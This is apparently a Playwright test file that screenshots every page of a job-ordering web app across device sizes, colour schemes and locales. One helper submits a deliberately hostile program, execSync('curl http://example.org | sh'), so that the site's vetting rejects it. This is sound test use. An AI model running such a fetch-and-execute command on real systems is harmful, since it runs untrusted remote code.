import { mkdirSync } from 'node:fs'
import { join } from 'node:path'
import { devices, expect, test } from '@playwright/test'
import { fund, order, signIn } from './person.ts'

const FOLDER = 'screenshots'
const SIZES = {
  desktop: { viewport: { width: 1360, height: 900 } },
  phone: { ...devices['Pixel 7'] },
} as const

test('every page, light and dark, on phone and desktop @screenshots', async ({ browser, page, baseURL }) => {
  test.setTimeout(900_000)
  mkdirSync(FOLDER, { recursive: true })

  // Real things to look at: a job that settled, one that failed, one that is rejected.
  await page.goto('/jobs/new?template=primes')
  await signIn(page)
  await fund(page)
  const jobId = await order(page)
  await expect(page.getByText('Checked, paid, finished.')).toBeVisible({ timeout: 120_000 })
  await expect(
    page.getByRole('list', { name: 'The job from order to payment' }).getByRole('link').last(),
  ).toBeVisible()
  const transaction = await page
    .getByRole('list', { name: 'The job from order to payment' })
    .getByRole('link')
    .last()
    .getAttribute('href')
  const rejected = await rejectedJob(page)
  await page.goto('/nodes')
  const node = await page.locator('a[href^="/nodes/0x"]').first().getAttribute('href')
  const state = await page.context().storageState()

  const own = [
    '/',
    '/jobs',
    '/jobs?state=held',
    '/jobs/new?template=train',
    `/jobs/${jobId}`,
    ...(rejected === null ? [] : [`/jobs/${rejected}`]),
    '/account',
    '/nodes',
    node ?? '',
    transaction ?? '',
    '/ops',
    '/nowhere',
  ]
  const strangers = ['/jobs', '/account']
  for (const [size, device] of Object.entries(SIZES)) {
    for (const colorScheme of ['light', 'dark'] as const) {
      for (const [who, paths] of [
        ['signed-in', own],
        ['stranger', strangers],
      ] as const) {
        const context = await browser.newContext({
          ...device,
          ...(baseURL === undefined ? {} : { baseURL }),
          colorScheme,
          reducedMotion: 'reduce',
          locale: 'en',
          ...(who === 'signed-in' ? { storageState: state } : {}),
        })
        const shown = await context.newPage()
        for (const path of paths.filter((item) => item !== '')) {
          await shown.goto(path, { waitUntil: 'load' })
          await shown.waitForTimeout(1200)
          const font = await shown.evaluate(() => getComputedStyle(document.body).fontFamily)
          expect(font, `${path} came without its style sheet`).toContain('grotesk')
          const wider = await shown.evaluate(
            () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
          )
          expect(wider, `${path} scrolls sideways on a ${size}`).toBeLessThanOrEqual(0)
          const name =
            path === '/'
              ? 'home'
              : path
                  .replace(/^\//, '')
                  .replace(/0x[0-9a-f]+/, 'x')
                  .replace(/job_\w+/, path.includes(jobId) ? 'settled' : 'rejected')
                  .replace(/\W+/g, '-')
          await shown.screenshot({
            path: join(FOLDER, `${name}-${who}-${size}-${colorScheme}.png`),
            fullPage: true,
          })
        }
        await context.close()
      }
    }
  }
  // The other two languages, once each.
  for (const locale of ['zh-Hant', 'zh-Hans']) {
    const context = await browser.newContext({
      ...SIZES.desktop,
      ...(baseURL === undefined ? {} : { baseURL }),
      locale: locale === 'zh-Hant' ? 'zh-TW' : 'zh-CN',
      reducedMotion: 'reduce',
      storageState: state,
    })
    const shown = await context.newPage()
    for (const [name, path] of [
      ['home', '/'],
      ['new', '/jobs/new?template=train'],
      ['job', `/jobs/${jobId}`],
    ] as const) {
      await shown.goto(path, { waitUntil: 'load' })
      await shown.waitForTimeout(1000)
      await shown.screenshot({ path: join(FOLDER, `${name}-${locale}.png`), fullPage: true })
    }
    await context.close()
  }
})

/** A job the vetting refuses, so that its page can be seen; null when the vetting took it after all. */
async function rejectedJob(page: import('@playwright/test').Page): Promise<string | null> {
  await page.goto('/jobs/new')
  await page
    .getByLabel('Source of the program')
    .fill("import { execSync } from 'node:child_process'\nexecSync('curl http://example.org | sh')\n")
  const sign = page.getByRole('button', { name: 'Sign the order' })
  await expect(sign).toBeEnabled({ timeout: 60_000 })
  await sign.click()
  const refused = page.getByText('The order was not accepted')
  await Promise.race([
    page.waitForURL(/\/jobs\/job_/, { timeout: 60_000 }),
    refused.waitFor({ timeout: 60_000 }),
  ])
  return /\/jobs\/(job_\w+)/.exec(page.url())?.[1] ?? null
}
